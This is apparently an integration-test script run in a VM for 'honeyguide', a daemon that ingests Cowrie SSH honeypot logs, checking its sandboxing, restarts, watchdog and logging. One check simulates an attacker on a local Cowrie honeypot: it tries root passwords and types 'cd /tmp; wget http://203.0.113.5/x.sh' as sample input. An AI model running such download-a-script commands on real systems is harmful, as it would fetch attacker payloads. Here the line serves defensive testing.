"""What runs inside the machine that tests/boot.rs boots: works the unit as an operator would, and as misfortune does.

Each check is a function; what it found goes to FINDINGS as a line of JSON, and the machine is powered off at the end.
"""

import collections
import hashlib
import hmac
import http.server
import json
import os
import pathlib
import socket
import subprocess
import sys
import threading
import time
import traceback

FINDINGS = pathlib.Path(sys.argv[1])
UNIT = "honeyguide.service"
DROP_INS = pathlib.Path("/etc/systemd/system/honeyguide.service.d")
CONFIG = pathlib.Path("/etc/honeyguide/honeyguide.toml")
COWRIE = pathlib.Path("/home/cowrie/cowrie")
COWRIE_LOG = COWRIE / "var/log/cowrie/cowrie.json"
STEADY_LOG = pathlib.Path("/var/log/steady/steady.json")
HOOK_KEY = "a key that only systemd reads"
DEADLINE_SECONDS = 60

found = {}


def until(what, condition):
    deadline = time.monotonic() + DEADLINE_SECONDS
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"waited in vain: {what}")
        time.sleep(0.05)


def run(*words, ok=(0,)):
    done = subprocess.run(words, capture_output=True, text=True, timeout=DEADLINE_SECONDS)
    assert done.returncode in ok, f"{words} ended with {done.returncode}: {done.stdout} {done.stderr}"
    return done.stdout


def show(name):
    return run("systemctl", "show", "--value", "-p", name, UNIT).strip()


def main_pid():
    return int(show("MainPID"))


def running_anew(before):
    """Waits for another process of the unit to be ready."""
    return until("the unit is active again", lambda: show("ActiveState") == "active" and main_pid() not in (0, before))


def events(query):
    """The original lines that a query finds."""
    return [line for line in run("honeyguide", "search", query, "--limit", "1000000", "--json").splitlines() if line]


def journal():
    lines = run("journalctl", "-u", UNIT, "-o", "json", "--no-pager", "--all").splitlines()
    return [json.loads(line) for line in lines]


def logged(action):
    """Records of the daemon with this action: what journald knows, and what the daemon said."""
    records = []
    for entry in journal():
        message = entry.get("MESSAGE")
        if isinstance(message, str) and message.startswith("{"):
            record = json.loads(message)
            if record.get("event.action") == action:
                records.append((entry, record))
    return records


class Steady(threading.Thread):
    """A honeypot that never stops logging."""

    def __init__(self):
        super().__init__(daemon=True)
        self.lines, self.stopping = [], threading.Event()

    def run(self):
        with STEADY_LOG.open("a") as log:
            while not self.stopping.wait(0.005):
                n = len(self.lines)
                event = {"eventid": "cowrie.login.failed", "username": f"u{n % 100}", "password": f"p{n}", "sensor": "steady",
                         "timestamp": f"2026-05-28T20:{n // 60000 % 60:02}:{n // 1000 % 60:02}.{n % 1000:03}000Z",
                         "src_ip": f"192.0.2.{n % 250}", "session": f"{n // 8:012x}", "protocol": "ssh"}
                line = json.dumps(event)
                log.write(line + "\n")
                log.flush()
                self.lines.append(line)


class Asking(threading.Thread):
    """A client that asks without a pause; how each attempt ended is counted."""

    def __init__(self, family, address):
        super().__init__(daemon=True)
        self.family, self.address = family, address
        self.ends, self.stopping = collections.Counter(), threading.Event()

    def run(self):
        while not self.stopping.wait(0.002):
            with socket.socket(self.family) as client:
                client.settimeout(DEADLINE_SECONDS)
                try:
                    client.connect(self.address)
                except OSError as error:
                    self.ends[f"not connected: {error}"] += 1
                    continue
                try:
                    client.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    answer = client.recv(64)
                    self.ends["answered" if answer.startswith(b"HTTP/1.1 ") else "closed without an answer"] += 1
                except OSError as error:
                    self.ends[f"cut off: {error}"] += 1


class Hook(http.server.BaseHTTPRequestHandler):
    """A receiver that checks signatures."""

    signatures = collections.Counter()

    def do_POST(self):
        body = self.rfile.read(int(self.headers["content-length"]))
        parts = dict(part.split("=", 1) for part in self.headers.get("x-honeyguide-signature", "").split(",") if "=" in part)
        expected = hmac.new(HOOK_KEY.encode(), f"{parts.get('t')}.".encode() + body, hashlib.sha256).hexdigest()
        Hook.signatures["right" if parts.get("v1") == expected else "wrong"] += 1
        self.send_response(200)
        self.send_header("content-length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


def drop_in(name, text):
    DROP_INS.mkdir(parents=True, exist_ok=True)
    path = DROP_INS / name
    path.unlink(missing_ok=True) if text is None else path.write_text(text)
    run("systemctl", "daemon-reload")


def is_active_once_ready():
    until("the unit is active", lambda: show("ActiveState") == "active")
    assert show("Type") == "notify" and show("NRestarts") == "0" and show("Result") == "success"
    status = show("StatusText")
    assert status.endswith("events"), status
    return status


def holds_no_privilege():
    pid = main_pid()
    status = dict(line.split(":\t", 1) for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
    for name in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]:
        assert int(status[name], 16) == 0, (name, status[name])
    assert (status["NoNewPrivs"], status["Seccomp"]) == ("1", "2"), status
    uid = status["Uid"].split()
    assert len(set(uid)) == 1 and uid[0] != "0", uid
    uid_map = pathlib.Path(f"/proc/{pid}/uid_map").read_text().split("\n")
    assert len([line for line in uid_map if line]) == 2, uid_map
    environ = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
    assert b"LISTEN_FDNAMES=admin" in environ, "started with the sockets of the socket unit"
    return f"uid {uid[0]}, seccomp filters {status.get('Seccomp_filters')}, threads {status['Threads']}"


def sees_logs_and_homes_only_to_read():
    pid = str(main_pid())
    for path in [COWRIE_LOG.parent / "x", STEADY_LOG.parent / "x", "/etc/x", "/usr/x"]:
        done = subprocess.run(["nsenter", "-t", pid, "-m", "touch", str(path)], capture_output=True, text=True)
        assert done.returncode != 0 and "Read-only file system" in done.stderr, (path, done)
    homes = run("nsenter", "-t", pid, "-m", "find", "/root", "/home", "-mindepth", "1", "-maxdepth", "2", "-not", "-path", "/home/cowrie*")
    assert homes == "", homes
    assert run("stat", "-c", "%a %U %G", str(COWRIE_LOG.parent)).strip() == "750 cowrie cowrie"
    return "read-only for root in its mount name space"


def logs_it_may_not_read_are_reported():
    (entry, record), *_ = until("the report", lambda: logged("input_unreadable"))
    assert record["source"] == "locked" and "/var/log/locked/locked.json" in record["error"], record
    assert show("ActiveState") == "active"
    return record["error"]


def a_directory_it_may_not_write_is_reported():
    def reason():
        sinks = json.loads(run("honeyguide", "sinks", "list", "--json", ok=(0, 3)))
        text = json.dumps([sink for sink in sinks if sink["name"] == "nowhere"])
        return text if "Read-only" in text or "os error" in text or "cannot" in text else None

    told = until("the reason", reason)
    assert show("ActiveState") == "active"
    return told


def members_of_the_group_may_ask_and_strangers_may_not():
    told = run("runuser", "-u", "analyst", "--", "honeyguide", "status", "--json")
    assert json.loads(told)
    done = subprocess.run(["runuser", "-u", "nobody", "--", "honeyguide", "status"], capture_output=True, text=True)
    assert done.returncode != 0, done
    return done.stderr.strip()


def attackers_of_a_real_cowrie_become_events():
    import paramiko

    def connected():
        try:
            socket.create_connection(("127.0.0.1", 2222), timeout=1).close()
            return True
        except OSError:
            return False

    run("systemctl", "start", "cowrie.service")
    until("cowrie listens", connected)
    typed = "uname -a\ncat /proc/cpuinfo | grep name\ncd /tmp; wget http://203.0.113.5/x.sh\nexit\n"
    for password in ["123456", "honey\x1b[2J", "p\u00e4ssword"]:
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            client.connect("127.0.0.1", 2222, "root", password, allow_agent=False, look_for_keys=False, banner_timeout=DEADLINE_SECONDS)
            shell = client.invoke_shell()
            shell.settimeout(DEADLINE_SECONDS)
            shell.sendall(typed)
            while shell.recv(4096):
                pass
        except paramiko.AuthenticationException:
            pass
        finally:
            client.close()
    # One more is ours that only looked whether it listens.
    until("cowrie logged the ends", lambda: COWRIE_LOG.read_text().count("cowrie.session.closed") >= 4)
    # What it logs goes on for a moment; then the daemon has all of it, byte for byte.
    until("every line is found", lambda: sorted(events("src_ip:127.0.0.1")) == sorted(COWRIE_LOG.read_text().splitlines()))
    lines = COWRIE_LOG.read_text().splitlines()
    kinds = collections.Counter(json.loads(line)["eventid"] for line in lines)
    assert kinds["cowrie.login.success"] >= 1 and kinds["cowrie.command.input"] >= 3, kinds
    assert len(events("command:*wget*")) >= 1
    return dict(kinds)


def a_credential_signs():
    until("a signed request", lambda: Hook.signatures["right"] >= 1)
    assert Hook.signatures["wrong"] == 0, Hook.signatures
    environ = pathlib.Path(f"/proc/{main_pid()}/environ").read_bytes()
    assert b"CREDENTIALS_DIRECTORY=/run/credentials/honeyguide.service" in environ
    return dict(Hook.signatures)


def a_reload_takes_up_a_source():
    before = main_pid()
    late = STEADY_LOG.with_name("late.json")
    late.write_text(STEADY_LOG.read_text().splitlines()[0].replace('"steady"', '"late"') + "\n")
    with CONFIG.open("a") as config:
        config.write('\n[[source]]\nname = "late"\npaths = ["/var/log/steady/late.json"]\n')
    run("systemctl", "reload", UNIT)
    until("the new source is read", lambda: len(events("sensor:late")) == 1)
    assert main_pid() == before and show("ActiveState") == "active"
    # A wrong one changes nothing.
    good = CONFIG.read_text()
    CONFIG.write_text(good + "\nnonsense = 1\n")
    run("systemctl", "reload", UNIT)
    until("the refusal", lambda: logged("reload_refused"))
    CONFIG.write_text(good)
    assert main_pid() == before and show("ActiveState") == "active"
    return show("StatusText")


def restarts_go_unnoticed(clients):
    # One cannot be counted that is under way.
    before, took = [dict(client.ends) for client in clients], []
    for _ in range(5):
        pid, started = main_pid(), time.monotonic()
        run("systemctl", "restart", UNIT)
        took.append(f"{time.monotonic() - started:.2f} s")
        assert main_pid() not in (0, pid)
        # Of the limit of starts in five minutes.
        run("systemctl", "reset-failed", UNIT)
        answered = [client.ends["answered"] for client in clients]
        until("clients are answered", lambda: all(client.ends["answered"] > then + 10 for client, then in zip(clients, answered)))
    after = [dict(client.ends) for client in clients]
    other = [{end: n - then.get(end, 0) for end, n in now.items() if end != "answered"} for then, now in zip(before, after)]
    assert not any(n for ends in other for n in ends.values()), other
    return took


def killed_it_is_started_again():
    before, restarts = main_pid(), int(show("NRestarts"))
    run("systemctl", "kill", "--signal=KILL", "--kill-who=main", UNIT)
    running_anew(before)
    assert int(show("NRestarts")) == restarts + 1, show("NRestarts")
    return "one restart"


def hung_it_is_started_again_by_the_watchdog():
    # The second time something is read the reader stands still for ever.
    drop_in("hang.conf", "[Service]\nEnvironment=FAILPOINTS=ingest::send=1*off->pause\n")
    run("systemctl", "restart", UNIT)
    before = main_pid()
    drop_in("hang.conf", None)
    running_anew(before)
    text = run("journalctl", "-u", UNIT, "--no-pager", "-o", "cat")
    assert "Watchdog timeout" in text, text[-2000:]
    stalled = {f"{record['actor']} {record['name']}" for entry, record in logged("actor_stalled") if entry["_PID"] == str(before)}
    assert "ingest steady" in stalled, stalled
    return sorted(stalled)


def the_journal_has_levels_and_fields():
    entry, record = logged("daemon_started")[0]
    assert entry["PRIORITY"] == "6" and entry["SYSLOG_IDENTIFIER"] == "honeyguide" and entry["_SYSTEMD_UNIT"] == UNIT, entry
    assert entry["_PID"] == str(record["process.pid"]) and entry["_CAP_EFFECTIVE"] == "0", entry
    assert {"@timestamp", "level", "message", "event.dataset", "service.name"} <= set(record), record
    priorities = {"INFO": "6", "WARNING": "4", "ERROR": "3", "CRITICAL": "2", "DEBUG": "7"}
    seen = collections.Counter()
    for entry in journal():
        message = entry.get("MESSAGE")
        if entry.get("_SYSTEMD_UNIT") == UNIT and isinstance(message, str) and message.startswith("{"):
            record = json.loads(message)
            assert priorities[record["level"]] == entry["PRIORITY"], entry
            seen[record["level"]] += 1
        elif entry.get("_TRANSPORT") == "stdout":
            raise AssertionError(f"no record: {entry}")
    assert seen["INFO"] and seen["WARNING"], seen
    warnings = run("journalctl", "-u", UNIT, "-p", "warning", "--no-pager", "-o", "cat")
    assert "input_unreadable" in warnings and "daemon_started" not in warnings
    return dict(seen)


def nothing_is_lost_and_nothing_twice(steady):
    steady.stopping.set()
    steady.join()
    until("all lines are found", lambda: len(events("sensor:steady")) >= len(steady.lines))
    assert sorted(events("sensor:steady")) == sorted(steady.lines)
    return f"{len(steady.lines)} lines"


def the_sockets_never_refused(clients):
    ends = {}
    for client in clients:
        client.stopping.set()
        client.join()
        ends[str(client.address)] = dict(client.ends)
        assert client.ends["answered"] > 100, ends
        # Whom a killed process was just about to answer is cut off; nobody is refused.
        assert not [end for end in client.ends if end.startswith("not connected")], ends
        assert sum(client.ends.values()) - client.ends["answered"] <= 4, ends
    return ends


def stopped_it_leaves_a_journal_that_verifies():
    run("systemctl", "stop", "honeyguide.socket", UNIT)
    assert show("ActiveState") == "inactive" and show("Result") == "success", show("Result")
    return run("honeyguide", "verify").strip().splitlines()[-1]


def check(function, *arguments):
    try:
        entry = {"name": function.__name__, "ok": True, "detail": str(function(*arguments))}
    except BaseException:
        entry = {"name": function.__name__, "ok": False, "detail": traceback.format_exc()}
    with FINDINGS.open("a") as findings:
        findings.write(json.dumps(entry) + "\n")
    return entry["ok"]


def main():
    """Works through all checks."""
    # Interpreter and packages may lie below a home directory; here that is a copy.
    for path in [pathlib.Path(sys.executable), pathlib.Path(sys.executable).resolve(), pathlib.Path(sys.base_prefix)]:
        for parent in path.parents:
            if parent.stat().st_mode & 0o011 != 0o011:
                parent.chmod(parent.stat().st_mode | 0o011)
    hook = http.server.ThreadingHTTPServer(("127.0.0.1", 9009), Hook)
    threading.Thread(target=hook.serve_forever, daemon=True).start()
    assert check(is_active_once_ready), "nothing else can be looked at"
    steady = Steady()
    clients = [Asking(socket.AF_UNIX, "/run/honeyguide/admin.sock"), Asking(socket.AF_INET, ("127.0.0.1", 8787))]
    for thread in [steady, *clients]:
        thread.start()
    check(holds_no_privilege)
    check(attackers_of_a_real_cowrie_become_events)
    check(sees_logs_and_homes_only_to_read)
    check(logs_it_may_not_read_are_reported)
    check(a_directory_it_may_not_write_is_reported)
    check(members_of_the_group_may_ask_and_strangers_may_not)
    check(a_credential_signs)
    check(a_reload_takes_up_a_source)
    check(restarts_go_unnoticed, clients)
    check(killed_it_is_started_again)
    check(hung_it_is_started_again_by_the_watchdog)
    check(the_journal_has_levels_and_fields)
    check(nothing_is_lost_and_nothing_twice, steady)
    check(the_sockets_never_refused, clients)
    check(stopped_it_leaves_a_journal_that_verifies)


try:
    check(main)
finally:
    (FINDINGS.parent / "journal").write_text(run("journalctl", "-b", "--no-pager", "-n", "400"))
    subprocess.run(["systemctl", "poweroff", "--no-block"])
